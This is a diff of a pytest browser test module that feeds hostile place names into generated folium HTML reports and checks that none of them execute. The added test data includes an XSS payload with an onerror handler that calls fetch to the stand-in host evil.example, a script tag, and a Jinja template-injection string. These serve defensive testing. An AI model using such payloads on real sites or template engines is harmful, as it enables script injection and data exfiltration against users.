@@ -15,13 +15,14 @@ from .test_explore import FOLIUM
 pytestmark = pytest.mark.browser
 XSS = "<img src=x onerror=\"document.title='pwned';fetch('http://evil.example/x')\">"
 SCRIPT = "<script>document.title='pwned'</script>"
+JINJA = "{{ 'lille' ~ 'geo' ~ 7*7 }}{% for i in range(2) %}loop{% endfor %}"  # folium re-renders data as Jinja
 
 
 @pytest.fixture(scope="module")
 def hostile_run(tmp_path_factory, grid_units):
     d = tmp_path_factory.mktemp("hostile")
     g = grid_units.copy()
-    g["nom_iris"] = [XSS, SCRIPT] + [f"U{i}" for i in range(4)]
+    g["nom_iris"] = [XSS, SCRIPT, JINJA] + [f"U{i}" for i in range(3)]
     g["nom_commune"] = SCRIPT
     g.to_file(d / "units.geojson")
     t = pd.DataFrame({"IRIS": g["code_iris"], SCRIPT: [100.0, 300, 70, 40, 600, 250], "P20_POP": [1000.0] * 6,
@@ -64,6 +65,8 @@ def test_no_script_runs_from_hostile_names(hostile_run, page, doc):
     title = page.title()
     assert title != "pwned"  # the title may show the hostile text, literally: that is the point
     text = page.locator("body").inner_text()
+    for f in page.frames:  # a name is never evaluated as a template on the server
+        assert "lillegeo49" not in f.content() and "looploop" not in f.content()
     if doc == "report.html":
         assert XSS in text and SCRIPT in text  # shown literally
     if doc == "presentation.html":
